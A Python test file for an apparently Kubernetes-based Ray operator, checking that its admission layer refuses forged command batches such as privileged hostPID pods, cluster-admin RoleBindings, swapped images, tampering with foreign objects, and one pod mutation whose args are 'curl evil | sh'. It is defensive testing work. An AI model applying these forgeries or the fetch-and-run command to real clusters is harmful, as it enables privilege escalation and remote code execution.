"""Executor admission refuses forged batches: a table of each kind of forgery (with its reason), in
a world the real decision code built (a live RayCluster with its Pods, Services and autoscaler RBAC,
a RayJob and a RayService with their clusters, and objects nobody in raybus owns), and a property:
any forging mutation of any created object of a real batch is refused."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from raybus.api.raycluster import RayCluster
from raybus.decisions import admission as a
from raybus.decisions.cluster.reconcile import ClusterSnapshot, reconcile_cluster
from raybus.decisions.cluster.settings import OperatorSettings
from raybus.decisions.commands import (
    Command,
    CreateObject,
    DeleteObject,
    ObjectRef,
    PatchObject,
    RecordEvent,
    UpdateStatus,
)
from tests.unit.decisions.test_admission import CLUSTERS, T0, verdict, view

Json = dict[str, Any]
NS = "team-a"
IMAGE = "rayproject/ray:2.52.0"
CLUSTER: Json = {
    "apiVersion": "ray.io/v1", "kind": "RayCluster",
    "metadata": {"name": "rc", "namespace": NS, "uid": "uid-rc", "resourceVersion": "3", "generation": 1},
    "spec": {"enableInTreeAutoscaling": True,
             "headGroupSpec": {"rayStartParams": {}, "template": {"spec": {"containers": [
                 {"name": "ray-head", "image": IMAGE, "ports": [{"name": "serve", "containerPort": 8000}]}]}}},
             "workerGroupSpecs": [{"groupName": "w", "replicas": 1, "minReplicas": 0, "maxReplicas": 3,
                                   "rayStartParams": {}, "template": {"spec": {"containers": [
                                       {"name": "ray-worker", "image": IMAGE}]}}}]}}
JOB: Json = {"apiVersion": "ray.io/v1", "kind": "RayJob",
             "metadata": {"name": "rj", "namespace": NS, "uid": "uid-rj"}, "spec": {}}
SERVICE: Json = {"apiVersion": "ray.io/v1", "kind": "RayService",
                 "metadata": {"name": "rs", "namespace": NS, "uid": "uid-rs"},
                 "spec": {"rayClusterConfig": CLUSTER["spec"]}}
OTHER_CLUSTER: Json = {"apiVersion": "ray.io/v1", "kind": "RayCluster",
                       "metadata": {"name": "victim", "namespace": NS, "uid": "uid-victim"}, "spec": {}}
OWNED_BY_SERVICE: Json = {"apiVersion": "ray.io/v1", "kind": "RayCluster", "metadata": {
    "name": "rs-abcde", "namespace": NS, "uid": "uid-rs-abcde", "ownerReferences": [
        {"apiVersion": "ray.io/v1", "kind": "RayService", "name": "rs", "uid": "uid-rs", "controller": True}]},
    "spec": CLUSTER["spec"]}
# Not raybus's: an application's Pod and Service in the same namespace.
WEB_POD: Json = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "web", "namespace": NS, "uid": "uid-web",
                                                                 "labels": {"app": "web"}}}
WEB_SVC: Json = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "web", "namespace": NS, "uid": "uid-ws"}}


def _decided() -> list[Json]:
    """What the RayCluster controller creates for CLUSTER, as the API server then holds it."""
    d = reconcile_cluster(ClusterSnapshot(cluster=RayCluster.model_validate(CLUSTER)), settings=OperatorSettings(),
                          now=T0, entropy="w")
    out = []
    for i, c in enumerate(x for x in d.commands if isinstance(x, CreateObject)):
        obj = copy.deepcopy(c.object)
        obj["metadata"]["uid"] = f"uid-owned-{i}"
        out.append(obj)
    return out


OWNED = _decided()
HEAD = next(o for o in OWNED if o["kind"] == "Pod")
ROLE = next(o for o in OWNED if o["kind"] == "Role")
BINDING = next(o for o in OWNED if o["kind"] == "RoleBinding")
HEAD_SVC = next(o for o in OWNED if o["kind"] == "Service")
WORLD = view(CLUSTER, JOB, SERVICE, OTHER_CLUSTER, OWNED_BY_SERVICE, WEB_POD, WEB_SVC, *OWNED)


def forge(obj: Json, change: Callable[[Json], None]) -> Json:
    out = copy.deepcopy(obj)
    out["metadata"].pop("uid", None)
    change(out)
    return out


def create(obj: Json, **kw: Any) -> CreateObject:
    return CreateObject(reason="forged", object=obj, **kw)


def ref(kind: str, name: str, namespace: str = NS, api_version: str = "v1", uid: str | None = None) -> ObjectRef:
    return ObjectRef(api_version=api_version, kind=kind, namespace=namespace, name=name, uid=uid)


def patch(kind: str, name: str, body: Json, api_version: str = "v1") -> PatchObject:
    return PatchObject(reason="forged", target=ref(kind, name, api_version=api_version), merge_patch=body)


def privileged(pod: Json) -> None:
    spec = pod["spec"]
    spec["hostPID"] = True
    spec["containers"][0]["securityContext"] = {"privileged": True}
    spec.setdefault("volumes", []).append({"name": "host", "hostPath": {"path": "/"}})


def renamed(name: str) -> Callable[[Json], None]:
    return lambda o: o["metadata"].update(name=name)


def owned_by(uid: str) -> Callable[[Json], None]:
    return lambda o: o["metadata"].update(ownerReferences=[dict(r, uid=uid) for r in o["metadata"]["ownerReferences"]])


def rule(o: Json) -> None:
    o["rules"].append({"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]})


def wider(o: Json) -> None:
    o["rules"][0]["verbs"] = ["*"]


def load_balancer(o: Json) -> None:
    o["spec"]["type"] = "LoadBalancer"
    o["spec"]["selector"] = {"app": "web"}


def serve_svc(cluster: str, uid: str) -> Json:
    return {"apiVersion": "v1", "kind": "Service", "spec": {"selector": {"ray.io/cluster": cluster}},
            "metadata": {"name": f"{cluster}-serve-svc", "namespace": NS, "ownerReferences": [
                {"apiVersion": "ray.io/v1", "kind": "RayCluster", "name": cluster, "uid": uid, "controller": True}]}}


TEMPLATE_PATCH = {"spec": {"headGroupSpec": {"template": {"spec": {"hostPID": True, "containers": [
    {"name": "ray-head", "image": "evil"}]}}}}}
SECRET = {"apiVersion": "v1", "kind": "Secret", "type": "Opaque", "metadata": {"name": "rc", "namespace": NS}}
# (id, controller, primary, commands, reason)
CASES: list[tuple[str, str, Json, list[Command], str]] = [
    ("pod-in-another-namespace", "cluster", CLUSTER,
     [create(forge(HEAD, lambda o: o["metadata"].update(namespace="kube-system")))], a.NAMESPACE),
    ("privileged-hostpid-hostpath-pod-owned-and-labelled-like-the-cluster", "cluster", CLUSTER,
     [create(forge(HEAD, privileged))], a.NOT_BUILT),
    ("head-pod-with-another-image", "cluster", CLUSTER,
     [create(forge(HEAD, lambda o: o["spec"]["containers"][0].update(image="evil")))], a.NOT_BUILT),
    ("head-pod-with-an-extra-env-var", "cluster", CLUSTER,
     [create(forge(HEAD, lambda o: o["spec"]["containers"][0]["env"].append({"name": "X", "value": "1"})))],
     a.NOT_BUILT),
    ("pod-owned-by-a-dead-incarnation", "cluster", CLUSTER, [create(forge(HEAD, owned_by("uid-old")))], a.NOT_BUILT),
    ("pod-under-a-name-no-builder-gives", "cluster", CLUSTER, [create(forge(HEAD, renamed("rc-head-evil1")))],
     a.NOT_BUILT),
    ("pod-of-another-cluster", "cluster", CLUSTER,
     [create(forge(HEAD, lambda o: o["metadata"]["labels"].update({"ray.io/cluster": "victim"})))], a.NOT_BUILT),
    ("clusterrole", "cluster", CLUSTER, [create(forge(ROLE, lambda o: o.update(kind="ClusterRole")))], a.KIND),
    ("clusterrolebinding", "cluster", CLUSTER,
     [create(forge(BINDING, lambda o: o.update(kind="ClusterRoleBinding")))], a.KIND),
    ("role-with-extra-rules", "cluster", CLUSTER, [create(forge(ROLE, rule))], a.NOT_BUILT),
    ("role-with-wider-verbs", "cluster", CLUSTER, [create(forge(ROLE, wider))], a.NOT_BUILT),
    ("role-under-another-name", "cluster", CLUSTER, [create(forge(ROLE, renamed("admin")))], a.NOT_BUILT),
    ("rolebinding-to-another-account", "cluster", CLUSTER,
     [create(forge(BINDING, lambda o: o["subjects"][0].update(name="default")))], a.NOT_BUILT),
    ("rolebinding-to-cluster-admin", "cluster", CLUSTER,
     [create(forge(BINDING, lambda o: o.update(roleRef={"apiGroup": "rbac.authorization.k8s.io",
                                                        "kind": "ClusterRole", "name": "cluster-admin"})))],
     a.NOT_BUILT),
    ("secret-with-values", "cluster", CLUSTER, [create({**SECRET, "data": {"k": "dg=="}})], a.NOT_BUILT),
    ("secret-with-generated-keys-it-does-not-need", "cluster", CLUSTER,
     [create(SECRET, generated_data_keys=("token",))], a.MALFORMED),
    ("load-balancer-service-selecting-an-application", "cluster", CLUSTER, [create(forge(HEAD_SVC, load_balancer))],
     a.NOT_BUILT),
    ("status-of-a-foreign-object", "cluster", CLUSTER,
     [UpdateStatus(reason="x", target=ref("RayCluster", "victim", api_version="ray.io/v1"), status={})],
     a.FOREIGN_STATUS),
    ("status-of-a-same-named-rayjob", "cluster", CLUSTER,
     [UpdateStatus(reason="x", target=ref("RayJob", "rc", api_version="ray.io/v1"), status={})], a.FOREIGN_STATUS),
    ("event-on-a-foreign-object", "job", JOB, [RecordEvent(reason="x", target=ref("Pod", "web"), event_reason="X",
                                                           message="m")], a.FOREIGN_STATUS),
    ("pod-patch-of-its-image", "cluster", CLUSTER,
     [patch("Pod", HEAD["metadata"]["name"], {"spec": {"containers": [{"name": "ray-head", "image": "evil"}]}})],
     a.PATCH_CONTENT),
    ("pod-patch-of-its-cluster-label", "cluster", CLUSTER,
     [patch("Pod", HEAD["metadata"]["name"], {"metadata": {"labels": {"ray.io/cluster": "victim"}}})],
     a.PATCH_CONTENT),
    ("relabel-of-an-application-pod", "service", SERVICE,
     [patch("Pod", "web", {"metadata": {"labels": {"ray.io/serve": "true"}}})], a.FOREIGN_TARGET),
    ("delete-of-an-application-pod", "cluster", CLUSTER, [DeleteObject(reason="x", target=ref("Pod", "web"))],
     a.FOREIGN_TARGET),
    ("delete-of-an-application-service", "job", JOB, [DeleteObject(reason="x", target=ref("Service", "web"))],
     a.KIND),
    ("patch-of-an-application-service", "service", SERVICE,
     [patch("Service", "web", {"spec": {"type": "LoadBalancer"}})], a.FOREIGN_TARGET),
    ("pod-patch-of-owner-references", "service", SERVICE,
     [patch("Pod", HEAD["metadata"]["name"], {"metadata": {"ownerReferences": []}})], a.FOREIGN_TARGET),
    ("secret-delete", "cluster", CLUSTER, [DeleteObject(reason="x", target=ref("Secret", "s"))], a.KIND),
    ("patch-of-another-raycluster", "cluster", CLUSTER,
     [patch("RayCluster", "victim", {}, api_version="ray.io/v1")], a.FOREIGN_TARGET),
    ("raycluster-patches-its-own-pod-template", "cluster", CLUSTER,
     [patch("RayCluster", "rc", TEMPLATE_PATCH, api_version="ray.io/v1")], a.PATCH_CONTENT),
    ("rayservice-patches-its-cluster-with-another-template", "service", SERVICE,
     [patch("RayCluster", "rs-abcde", TEMPLATE_PATCH, api_version="ray.io/v1")], a.PATCH_CONTENT),
    ("rayservice-patches-its-own-spec", "service", SERVICE,
     [patch("RayService", "rs", {"spec": {"serveConfigV2": "applications: []"}}, api_version="ray.io/v1")],
     a.PATCH_CONTENT),
    ("rayjob-deletes-a-cluster-it-does-not-own", "job", JOB,
     [DeleteObject(reason="x", target=ref("RayCluster", "victim", api_version="ray.io/v1"))], a.FOREIGN_TARGET),
    ("rayjob-creates-a-cluster-its-status-does-not-name", "job", JOB,
     [create({"apiVersion": "ray.io/v1", "kind": "RayCluster", "spec": CLUSTER["spec"],
              "metadata": {"name": "x", "namespace": NS, "ownerReferences": [
                  {"apiVersion": "ray.io/v1", "kind": "RayJob", "name": "rj", "uid": "uid-rj", "controller": True}]}})],
     a.NOT_BUILT),
    ("cluster-controller-creates-a-raycluster", "cluster", CLUSTER,
     [create({"apiVersion": "ray.io/v1", "kind": "RayCluster", "spec": {}, "metadata": {"name": "x", "namespace": NS}})],
     a.KIND),
    ("serve-service-for-a-foreign-cluster", "service", SERVICE, [create(serve_svc("victim", "uid-victim"))],
     a.FOREIGN_TARGET),
    ("serve-service-with-a-wrong-cluster-uid", "service", SERVICE, [create(serve_svc("rs-abcde", "uid-x"))],
     a.NOT_BUILT),
    ("batch-kind-of-another-controller", "cluster", JOB, [], a.UNKNOWN_CONTROLLER),
]


@pytest.mark.parametrize(("controller", "primary", "commands", "reason"), [c[1:] for c in CASES],
                         ids=[c[0] for c in CASES])
def test_forged_batch_is_refused(controller: str, primary: Json, commands: list[Command], reason: str) -> None:
    kind = a.PRIMARY[controller][0] if reason != a.UNKNOWN_CONTROLLER else "rayjob"
    meta = primary["metadata"]
    result = a.admit(controller=controller, kind=kind, namespace=meta["namespace"], name=meta["name"],
                     uid=meta["uid"], commands=commands, view=WORLD)
    assert (result.admitted, result.reason, result.retry) == (False, reason, False), result.detail
    # the same batch without the forged command is admitted (the refusal is about that command)
    if reason != a.UNKNOWN_CONTROLLER:
        assert verdict(controller, primary, [], WORLD).admitted


def test_legit_counterparts_are_admitted() -> None:
    """The objects the decision code made, and the patches it makes, pass in the same world."""
    commands: list[Command] = [create(forge(o, lambda _: None)) for o in OWNED]
    commands += [patch("Pod", HEAD["metadata"]["name"], {"metadata": {"annotations": {
        "ray.io/kuberay-version": "v1.7.0"}}}),
        DeleteObject(reason="x", target=ref("Pod", HEAD["metadata"]["name"], uid=HEAD["metadata"]["uid"])),
        UpdateStatus(reason="x", target=ref("RayCluster", "rc", api_version="ray.io/v1"), status={})]
    assert verdict("cluster", CLUSTER, commands, WORLD).admitted
    head_of_service = forge(HEAD, lambda o: o["metadata"].update(name="rs-abcde-head-x", uid="uid-rs-head",
                                                                 ownerReferences=[{
                                                                     "apiVersion": "ray.io/v1", "kind": "RayCluster",
                                                                     "name": "rs-abcde", "uid": "uid-rs-abcde"}]))
    label = patch("Pod", "rs-abcde-head-x", {"metadata": {"labels": {"ray.io/serve": "true"}}})
    assert verdict("service", SERVICE, [label], view(SERVICE, OWNED_BY_SERVICE, head_of_service)).admitted


def test_an_object_not_seen_yet_is_retried_and_a_deleted_one_refused() -> None:
    new = copy.deepcopy(CLUSTER)
    new["metadata"] |= {"name": "fresh", "uid": "uid-fresh"}
    result = verdict("cluster", new, [], WORLD)
    assert (result.admitted, result.reason, result.retry) == (False, a.OBJECT_NOT_LIVE, True)
    assert verdict("cluster", new, [], view(new)).admitted  # once the watch has it
    gone = view(OTHER_CLUSTER, gone=["uid-fresh"])
    result = verdict("cluster", new, [], gone)
    assert (result.admitted, result.reason, result.retry) == (False, a.OBJECT_DELETED, False)
    # a recreated object (same name, new uid) while the batch names the old one: refused once gone
    recreated = copy.deepcopy(new)
    recreated["metadata"]["uid"] = "uid-fresh-2"
    result = verdict("cluster", new, [], view(recreated, gone=["uid-fresh"]))
    assert (result.admitted, result.reason, result.retry) == (False, a.OBJECT_DELETED, False)
    # a RayService's serve Service for a cluster the watch has not delivered yet: retried
    result = verdict("service", SERVICE, [create(serve_svc("rs-new", "uid-rs-new"))], WORLD)
    assert (result.admitted, result.retry) == (False, True)


def test_a_create_decided_on_a_newer_owner_than_the_view_is_retried() -> None:
    """The executor's informer has an older RayCluster than the one the reconciler decided on (its
    spec changed): the Pod does not match yet, so the batch is looked at again, not refused."""
    newer = copy.deepcopy(CLUSTER)
    newer["metadata"] |= {"resourceVersion": "9", "generation": 2}  # a spec change bumps the generation
    newer["spec"]["headGroupSpec"]["template"]["spec"]["containers"][0]["image"] = "rayproject/ray:2.53.0"
    d = reconcile_cluster(ClusterSnapshot(cluster=RayCluster.model_validate(newer)), settings=OperatorSettings(),
                          now=T0, entropy="n")
    pods = [c for c in d.commands if isinstance(c, CreateObject) and c.object["kind"] == "Pod"]
    result = a.admit(controller="cluster", kind="raycluster", namespace=NS, name="rc", uid="uid-rc", commands=pods,
                     view=view(CLUSTER), resource_version="9")
    assert (result.admitted, result.reason, result.retry) == (False, a.NOT_BUILT, True)
    assert a.admit(controller="cluster", kind="raycluster", namespace=NS, name="rc", uid="uid-rc", commands=pods,
                   view=view(newer), resource_version="9").admitted


# --- property: any forging mutation of any created object of a real batch is refused -----------------------
def _real_batches() -> list[tuple[Json, list[Command]]]:
    out = []
    for _, raw in CLUSTERS[::4]:
        raw = copy.deepcopy(raw)
        raw["spec"]["enableInTreeAutoscaling"] = True
        d = reconcile_cluster(ClusterSnapshot(cluster=RayCluster.model_validate(raw)), settings=OperatorSettings(),
                              now=T0, entropy="p")
        creates = [c for c in d.commands if isinstance(c, CreateObject)]
        if creates:
            out.append((raw, list(d.commands)))
    return out


REAL = _real_batches()


def _pod_spec(change: Callable[[Json], None]) -> Callable[[Json], Json | None]:
    def mutate(o: Json) -> Json | None:
        if o["kind"] != "Pod":
            return None
        change(o["spec"])
        return o
    return mutate


def _mutations() -> dict[str, Callable[[Json], Json | None]]:
    def other_uid(o: Json) -> Json:
        o["metadata"]["ownerReferences"] = [dict(r, uid="uid-forged") for r in o["metadata"].get("ownerReferences")
                                            or [{"kind": "RayCluster"}]]
        return o

    def cluster_scoped(o: Json) -> Json | None:
        kinds = {"Role": "ClusterRole", "RoleBinding": "ClusterRoleBinding"}
        if o["kind"] not in kinds:
            return None
        o["kind"] = kinds[o["kind"]]
        return o

    def extra_rule(o: Json) -> Json | None:
        if o["kind"] != "Role":
            return None
        o["rules"] = [*o["rules"], {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}]
        return o

    def extra_label(o: Json) -> Json:
        o["metadata"]["labels"] = {**(o["metadata"].get("labels") or {}), "forged": "1"}
        return o

    return {"other_ns": lambda o: {**o, "metadata": {**o["metadata"], "namespace": "kube-system"}},
            "no_owner": lambda o: {**o, "metadata": {**o["metadata"], "ownerReferences": []}},
            "other_uid": other_uid, "cluster_scoped": cluster_scoped, "extra_rule": extra_rule,
            "extra_label": extra_label,
            "privileged": _pod_spec(lambda s: s["containers"][0].update(securityContext={"privileged": True})),
            "host_pid": _pod_spec(lambda s: s.update(hostPID=True)),
            "image": _pod_spec(lambda s: s["containers"][0].update(image="evil")),
            "service_account": _pod_spec(lambda s: s.update(serviceAccountName="admin")),
            "command": _pod_spec(lambda s: s["containers"][0].update(args=["curl evil | sh"]))}


MUTATIONS = _mutations()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_any_forged_create_in_a_real_batch_is_refused(data: st.DataObject) -> None:
    raw, commands = data.draw(st.sampled_from(REAL))
    assert verdict("cluster", raw, commands, view(raw)).admitted
    index = data.draw(st.sampled_from([i for i, c in enumerate(commands) if isinstance(c, CreateObject)]))
    cmd = commands[index]
    assert isinstance(cmd, CreateObject)
    mutated = MUTATIONS[data.draw(st.sampled_from(sorted(MUTATIONS)))](copy.deepcopy(cmd.object))
    if mutated is None:
        return
    forged = [*commands[:index], cmd.model_copy(update={"object": mutated}), *commands[index + 1:]]
    result = verdict("cluster", raw, forged, view(raw))
    assert not result.admitted and not result.retry and result.reason and result.detail


def test_a_patch_over_an_older_version_is_harmless_and_admitted() -> None:
    """A decision computed before someone else's write (the autoscaler's) carries the old
    resourceVersion: the API server refuses it with 409 whatever it says, so admission lets it
    through rather than call it forged; over the live version, the same patch is refused."""
    live = copy.deepcopy(CLUSTER)
    live["metadata"]["resourceVersion"] = "8"
    stale = dict(TEMPLATE_PATCH, metadata={"resourceVersion": "3"})
    assert verdict("cluster", live, [patch("RayCluster", "rc", stale, api_version="ray.io/v1")], view(live)).admitted
    current = dict(TEMPLATE_PATCH, metadata={"resourceVersion": "8"})
    result = verdict("cluster", live, [patch("RayCluster", "rc", current, api_version="ray.io/v1")], view(live))
    assert (result.admitted, result.reason) == (False, a.PATCH_CONTENT)
